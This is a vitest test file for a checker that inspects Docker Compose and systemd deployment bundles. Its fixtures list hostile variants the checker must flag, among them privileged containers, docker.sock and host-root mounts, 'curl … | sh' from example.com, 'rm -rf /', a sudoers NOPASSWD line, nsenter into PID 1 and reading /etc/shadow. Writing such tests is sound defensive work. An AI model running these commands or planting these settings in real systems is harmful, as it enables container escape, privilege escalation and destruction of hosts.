// A good bundle has nothing to object to; each of these bundles has, in the file that is to blame.
import { describe, expect, it } from "vitest";
import { bundleFolder, type DeployTarget } from "../../domain/deploy-targets";
import { checkBundle, MAX_BUNDLE_FILE_BYTES } from "./check-bundle";
import type { BundleFile, BundleFinding } from "./finding";
import { checkWords, MAX_PROGRAM_LINE } from "./scripts";

const script = (body: string) => `#!/bin/sh\nset -eu\n${body}\n`;
const SCRIPTS = {
  "deploy.sh": script('cd -- "$(dirname -- "$0")"\ndocker compose up -d\n./health-check.sh || ./rollback.sh'),
  "rollback.sh": script("docker compose up -d --no-build"),
  "health-check.sh": script("curl -fsS http://127.0.0.1:8000/health"),
};
const COMPOSE = `name: shop
services:
  app:
    build:
      context: ../..
      dockerfile: deploy/docker-compose/Dockerfile
    image: shop:current
    restart: unless-stopped
    cap_drop: [ALL]
    security_opt: ["no-new-privileges:true"]
    environment:
      PORT: "8000"
    ports:
      - "\${PORT:-8000}:8000"
    volumes:
      - data:/data
      - /scratch
volumes:
  data: {}
`;
const UNIT = `[Unit]
Description=shop
After=network.target

[Service]
ExecStart=/usr/bin/env python3 -m app --port \${PORT}
Environment=PORT=8000
DynamicUser=yes
StateDirectory=shop
NoNewPrivileges=yes
ProtectSystem=strict

[Install]
WantedBy=multi-user.target
`;
const GOOD: Record<DeployTarget, Record<string, string>> = {
  "docker-compose": {
    ...SCRIPTS,
    "docker-compose.yml": COMPOSE,
    Dockerfile: "FROM python:3.12-slim\nRUN --mount=type=cache,target=/c pip list\nUSER 65532\n",
    "README.md": "Never mount docker.sock, never use --privileged.\n",
  },
  systemd: {
    ...SCRIPTS,
    "deploy.sh": script("cp shop.service /etc\n./health-check.sh"),
    "shop.service": UNIT,
  },
};

type Change = Record<string, string | null>;

interface Odd {
  /** Not executable, though it is a script, or executable though it is none. */
  mode?: string;
  workspace?: string[];
  unreadable?: string;
}

function check(target: DeployTarget, change: Change = {}, odd: Odd = {}): BundleFinding[] {
  const folder = bundleFolder(target);
  const files = Object.entries({ ...GOOD[target], ...change }).flatMap(([name, text]): BundleFile[] =>
    text === null
      ? []
      : [
          {
            path: `${folder}/${name}`,
            name,
            size: text.length,
            executable: name.endsWith(".sh") !== (odd.mode === name),
            text: odd.unreadable === name ? null : text,
          },
        ],
  );
  const workspace = new Set([...files.map(({ path }) => path), "app/main.py", ...(odd.workspace ?? [])]);
  return checkBundle(target, { files, folder, workspace });
}

const compose = (from: string | RegExp, to: string): Change => ({
  "docker-compose.yml": COMPOSE.replace(from, to),
});
const service = (line: string): Change =>
  compose("    restart:", `${line.replace(/^/gm, "    ")}\n    restart:`);
const mount = (text: string): Change => compose("      - /scratch", `      - ${text}`);
const unit = (line: string): Change => ({ "shop.service": UNIT.replace("ProtectSystem=strict", line) });
const run = (line: string): Change => ({ "deploy.sh": `${SCRIPTS["deploy.sh"]}${line}\n` });

describe("a good bundle", () => {
  it.each(["docker-compose", "systemd"] as const)("for %s has nothing to object to", (target) => {
    expect(check(target)).toEqual([]);
  });

  it("with migrations runs them", () => {
    const odd = { workspace: ["migrations/001_init.sql"] };
    const migrates = {
      "migrate.sh": script("psql -v ON_ERROR_STOP=1 -f x.sql"),
      "deploy.sh": script("./migrate.sh\n./health-check.sh"),
    };
    expect(check("systemd", migrates, odd)).toEqual([]);
    expect(check("systemd", {}, odd).map(({ file }) => file)).toEqual([
      "deploy/systemd/migrate.sh",
      "deploy/systemd/deploy.sh",
    ]);
  });

  it.each<[string, Change]>([
    ["a health check of the container", service('healthcheck:\n  test: ["CMD", "true"]\n  interval: 5s')],
    [
      "a network of its own",
      compose("volumes:\n  data: {}", "networks:\n  own:\n    internal: true\nvolumes:\n  data:"),
    ],
    ["limits", service('deploy:\n  resources:\n    limits:\n      cpus: "1"\n      memory: 256M')],
    ["a mount in long words", mount("type: volume\n        source: data\n        target: /more")],
    ["privileged: false", service("privileged: false")],
    ["an env file of its own", service("env_file: .env")],
    [
      "a config of its own",
      compose("volumes:\n  data: {}", "configs:\n  x:\n    file: ./x.conf\nvolumes:\n  data: {}"),
    ],
  ])("may have %s", (_name, change) => {
    expect(check("docker-compose", change)).toEqual([]);
  });

  it.each<[string, string]>([
    ["a user of its own", "User=shop\nGroup=shop"],
    ["a command before it", "ExecStartPre=-/bin/true"],
    ["hardening", "CapabilityBoundingSet=\nRestrictAddressFamilies=AF_INET AF_INET6"],
  ])("may have %s in its unit", (_name, line) => {
    expect(check("systemd", unit(line))).toEqual([]);
  });
});

const HOSTILE_COMPOSE: [string, Change][] = [
  ["privileged", service("privileged: true")],
  ["privileged in quotes", service('privileged: "true"')],
  ["privileged by yes", service("privileged: yes")],
  ["privileged by a variable", service(`privileged: \${P:-true}`)],
  ["the engine's socket", mount("/var/run/docker.sock:/var/run/docker.sock")],
  ["the engine's socket by a setting", service("use_api_socket: true")],
  ["the engine's address", compose('PORT: "8000"', 'DOCKER_HOST: "tcp://172.17.0.1:2375"')],
  ["the whole host", mount("/:/host")],
  ["a folder beside it", mount("./conf:/etc/conf")],
  ["a folder above it", mount("../..:/src")],
  ["a home", mount("~/.ssh:/ssh")],
  ["a path by a variable", mount(`"\${ROOT}:/host"`)],
  ["a drive", mount("C:/Users:/host")],
  ["a volume that is not declared", mount("other:/x")],
  ["a bind mount in long words", mount("type: bind\n        source: /etc\n        target: /x")],
  [
    "a bind mount under another name",
    mount(
      "type: volume\n        source: data\n        target: /x\n        bind:\n          propagation: shared",
    ),
  ],
  [
    "a volume that is a folder",
    compose("  data: {}", "  data:\n    driver_opts:\n      type: none\n      o: bind\n      device: /etc"),
  ],
  ["a volume of somebody else", compose("  data: {}", "  data:\n    external: true")],
  ["a volume of another driver", compose("  data: {}", "  data:\n    driver: sshfs")],
  ["the host's network", service("network_mode: host")],
  ["another container's network", service('network_mode: "container:db"')],
  [
    "the host's network by name",
    compose(
      "volumes:\n  data",
      "networks:\n  default:\n    name: host\n    external: true\nvolumes:\n  data",
    ),
  ],
  [
    "a network on the host's card",
    compose("volumes:\n  data", "networks:\n  lan:\n    driver: macvlan\nvolumes:\n  data"),
  ],
  ["a network that is not declared", service("networks: [host]")],
  ["the host's processes", service("pid: host")],
  ["the host's memory", service("ipc: host")],
  ["the host's name", service("uts: host")],
  ["the host's users", service("userns_mode: host")],
  ["the host's control groups", service("cgroup: host")],
  ["a device", service("devices:\n  - /dev/sda:/dev/sda")],
  ["rules for devices", service('device_cgroup_rules: ["c 1:3 mr"]')],
  [
    "graphics cards",
    service("deploy:\n  resources:\n    reservations:\n      devices:\n        - capabilities: [gpu]"),
  ],
  ["added capabilities", service("cap_add: [SYS_ADMIN]")],
  ["no system call filter", compose("no-new-privileges:true", "seccomp:unconfined")],
  ["volumes of another container", service("volumes_from: [db]")],
  ["another file", service("extends:\n  file: ../other.yml\n  service: app")],
  ["an included file", compose("services:", "include: [other.yml]\nservices:")],
  ["a hook with rights", service("post_start:\n  - command: id\n    privileged: true")],
  ["a setting nobody knows", service("new_escape: true")],
  [
    "a secret out of the host",
    compose("volumes:\n  data", "secrets:\n  x:\n    file: /etc/shadow\nvolumes:\n  data"),
  ],
  ["an env file above it", service("env_file: ../../../etc/passwd")],
  ["a build of the host", compose("../..", "/")],
  ["a build above the project", compose("../..", "../../..")],
  ["a build from elsewhere", compose("../..", "https://example.com/x.git")],
  ["a build with rights", compose("      context", "      privileged: true\n      context")],
  ["a build with the host's network", compose("      context", "      network: host\n      context")],
  ["a Dockerfile that is not there", compose("compose/Dockerfile", "compose/Other")],
  ["no service", { "docker-compose.yml": "services: {}\n" }],
  ["no image", compose(/ {4}build:[\s\S]*?current\n/, "")],
  ["a list instead", { "docker-compose.yml": "- services\n" }],
  ["no compose file", { "docker-compose.yml": null }],
  ["a file that Compose reads by itself", { "docker-compose.override.yml": "services: {}\n" }],
  ["a file that Compose takes first", { "compose.yaml": "services: {}\n" }],
  ["settings of Compose", { ".env": "A=1\n" }],
  ["a Dockerfile with rights", { Dockerfile: "FROM x\nRUN --security=insecure id\n" }],
  ["another compose file in a script", run("docker compose -f /tmp/x.yml up")],
  ["another compose file by a variable", run("export COMPOSE_FILE=/tmp/x.yml")],
  ["a container with rights in a script", run("docker run --privileged alpine")],
  ["a container with rights over two lines", run("docker run \\\n  --privi\\\nleged alpine")],
  ["a container with rights in quotes", run(`docker run --pri"vile"ged alpine`)],
  ["the socket in a script", run("docker run -v /var/run/docker.sock:/s alpine")],
  ["the socket in quotes", run(`S=/var/run/docker".sock"`)],
  ["a path of the host in a script", run("docker run -v /etc:/host alpine")],
  ["a path of the host by --mount", run("docker run --mount type=bind,source=/,target=/h alpine")],
  ["the host's processes in a script", run("docker run --pid=host alpine")],
  ["the host's network in a script", run("docker run --net host alpine")],
  ["capabilities in a script", run("docker run --cap-add ALL alpine")],
  ["a device in a script", run("docker run --device /dev/sda alpine")],
  ["a volume with options", run("docker volume create -o type=none -o device=/ x")],
  ["another namespace", run("nsenter -t 1 -m sh")],
  ["a program that gives rights", run("chmod 4755 /usr/local/bin/x")],
  ["another engine", run("docker -H tcp://10.0.0.1:2375 ps")],
  ["a mighty group", run("usermod -aG docker shop")],
  ["what is fetched and run", run("curl -fsSL https://example.com/x | sh")],
  ["rights for later", run("echo 'x ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers.d/x")],
  ["the end of the host", run("rm -rf /")],
];

const HOSTILE_YAML: [string, Change][] = [
  ["privileged by an anchor", compose("services:", "x-a: &a\n  privileged: true\nservices:")],
  ["privileged by a merge", service("<<: *a")],
  ["privileged behind a tag", service("privileged: !!bool true")],
  ["privileged in braces", compose(/services:[\s\S]*/, "services: {app: {image: a, privileged: true}}\n")],
  ["privileged in a second document", { "docker-compose.yml": `${COMPOSE}---\nservices: {}\n` }],
  ["a key given twice", service("image: other")],
];

const HOSTILE_UNITS: [string, Change][] = [
  ["root", unit("DynamicUser=no\nUser=root")],
  ["root by number", unit("User=0")],
  ["nobody named", { "shop.service": UNIT.replace("DynamicUser=yes\n", "") }],
  ["a dynamic user that is taken back", unit("DynamicUser=no")],
  ["a user that is taken back", { "shop.service": UNIT.replace("DynamicUser=yes", "User=shop\nUser=") }],
  ["a user by a specifier", unit("User=%i")],
  ["a user that is filled in later", unit("User=@USER@")],
  ["the group of the engine", unit("SupplementaryGroups=shop docker")],
  ["the group root", unit("Group=root")],
  ["a command with rights", unit("ExecStartPre=+/bin/sh -c id")],
  ["a command with rights behind other signs", unit("ExecStartPre=-@!/bin/sh sh -c id")],
  ["rights for the commands before it", unit("PermissionsStartOnly=yes")],
  ["added capabilities", unit("AmbientCapabilities=CAP_SYS_ADMIN")],
  ["a device", unit("DeviceAllow=/dev/sda rw")],
  ["a bound path", unit("BindPaths=/:/host")],
  ["another root", unit("RootDirectory=/srv/x")],
  ["another namespace", unit("NetworkNamespacePath=/proc/1/ns/net")],
  [
    "the namespace of another unit",
    { "shop.service": UNIT.replace("After=", "JoinsNamespaceOf=x.service\nAfter=") },
  ],
  ["the socket", unit("ReadWritePaths=/run/docker.sock")],
  ["a file of the host that root reads for it", unit("LoadCredential=x:/etc/shadow")],
  ["a file of the host that root writes for it", unit("StandardOutput=append:/etc/cron.d/x")],
  ["a folder of another service", unit("StateDirectory=shop dpkg")],
  ["a folder above its own", unit("CacheDirectory=shop/../apt")],
  ["the end of another unit", { "shop.service": UNIT.replace("After=", "Conflicts=ssh.service\nAfter=") }],
  ["the name of another unit", { "shop.service": `${UNIT}Alias=ssh.service\n` }],
  ["no word on new rights", { "shop.service": UNIT.replace("NoNewPrivileges=yes\n", "") }],
  ["new rights after all", unit("NoNewPrivileges=no")],
  [
    "a setting behind a space that is none",
    { "shop.service": UNIT.replace("DynamicUser", "\u00a0DynamicUser") },
  ],
  ["a line that goes on", unit("Environment=A=1 \\\nUser=root")],
  ["a setting nobody knows", unit("NewEscape=yes")],
  ["a section nobody knows", { "shop.service": `${UNIT}[Socket]\nListenStream=80\n` }],
  ["no command", { "shop.service": UNIT.replace(/ExecStart=.*\n/, "") }],
  ["no unit", { "shop.service": null }],
  ["a drop-in", { "shop.service.d/x.conf": "[Service]\nUser=root\n" }],
  ["another kind of unit", { "shop.timer": "[Timer]\nOnBootSec=1\n" }],
  ["a container as a unit", { "shop.container": "[Container]\nImage=x\n" }],
];

const HOSTILE_FILES: [string, Change, Odd][] = [
  ["no way back", { "rollback.sh": null }, {}],
  ["no health check", { "health-check.sh": null }, {}],
  ["a health check that is not run", { "deploy.sh": script("systemctl restart shop") }, {}],
  [
    "a health check that is only spoken of",
    { "deploy.sh": script("# health-check.sh\nsystemctl restart shop") },
    {},
  ],
  ["a script that does nothing", { "rollback.sh": "#!/bin/sh\nset -eu\n# nothing\n" }, {}],
  ["a script of another shell", { "rollback.sh": "#!/bin/bash\nls\n" }, {}],
  ["a script without a shell", { "rollback.sh": "ls\n" }, {}],
  ["a script that cannot be run", {}, { mode: "deploy.sh" }],
  ["a program that is no script", { tool: "ELF" }, { mode: "tool" }],
  ["a file that is no text", { "logo.png": "x" }, { unreadable: "logo.png" }],
  ["CR at the ends of lines", { "rollback.sh": "#!/bin/sh\r\nls\r\n" }, {}],
  ["signs that turn the text round", { "rollback.sh": script("ls # \u202e x") }, {}],
  ["an escape for terminals", { "rollback.sh": script("ls # \u001b[2J") }, {}],
  ["too many files", Object.fromEntries(Array.from({ length: 61 }, (_, i) => [`f${i}`, "x"])), {}],
];

const UNREAD = "plain YAML that everybody reads alike";

describe("a hostile bundle", () => {
  it.each(HOSTILE_COMPOSE)("for docker-compose: %s", (_name, change) => {
    const findings = check("docker-compose", change);
    const changed = Object.keys(change).map((name) => `deploy/docker-compose/${name}`);
    expect(findings.map(({ file }) => file)).toEqual(expect.arrayContaining(changed));
    // Refused for what it says, and not because it could not be read.
    expect(findings.filter(({ expected }) => expected === UNREAD)).toEqual([]);
  });

  it.each(HOSTILE_YAML)("in YAML that readers differ about: %s", (_name, change) => {
    expect(check("docker-compose", change).map(({ expected }) => expected)).toEqual([UNREAD]);
  });

  it.each(HOSTILE_UNITS)("for systemd: %s", (_name, change) => {
    expect(check("systemd", change)).not.toEqual([]);
  });

  it.each(HOSTILE_FILES)("of any kind: %s", (_name, change, odd) => {
    expect(check("systemd", change, odd)).not.toEqual([]);
  });

  it("says where it is and what is expected", () => {
    expect(check("docker-compose", service("privileged: true"))).toEqual([
      {
        criterion: "compose file",
        file: "deploy/docker-compose/docker-compose.yml",
        line: 8,
        expected: "app: only false",
        observed: "privileged: true",
      },
    ]);
  });

  it.each([
    ...[
      "rm -",
      "docker -",
      "chmod -",
      "compose -a ",
      "compose -compose ",
      "volume create ",
      "curl ",
      "useradd ",
    ],
    ...["--net ", "\\", "\\\n", " -v", "\n", " "],
  ])(
    "full of %j is looked through quickly",
    (unit) => {
      const folder = bundleFolder("systemd");
      const about = { path: `${folder}/deploy.sh`, name: "deploy.sh", executable: true };
      const words = (text: string) =>
        checkWords({ files: [{ ...about, size: text.length, text }], folder, workspace: new Set() });
      const line = words(unit.repeat((1024 * 1024) / unit.length)).map(({ expected }) => expected);
      const isLong = !unit.endsWith("\n") && unit !== "\\";
      expect(line.filter((expected) => expected.includes(String(MAX_PROGRAM_LINE)))).toHaveLength(
        isLong ? 1 : 0,
      );
      const short = unit.repeat(MAX_PROGRAM_LINE / unit.length - 1);
      expect(words(`${short}\n`.repeat(30))).toEqual([]);
    },
    20_000,
  );

  it("refuses a line that is put together of so many that nobody reads it", () => {
    const lines = `: ${"x".repeat(50)} \\\n`.repeat(80);
    expect(check("systemd", { "rollback.sh": script(`${lines}ls`) })).toMatchObject([
      { line: 3, expected: expect.stringContaining(String(MAX_PROGRAM_LINE)) },
    ]);
    expect(check("systemd", { "rollback.sh": script("x".repeat(MAX_PROGRAM_LINE)) })).toEqual([]);
  });

  it("is told apart from one that is large by what could be read", () => {
    const [finding] = check("systemd", { "big.txt": "x" }, { unreadable: "big.txt" });
    expect(finding?.expected).toContain(String(MAX_BUNDLE_FILE_BYTES));
  });
});
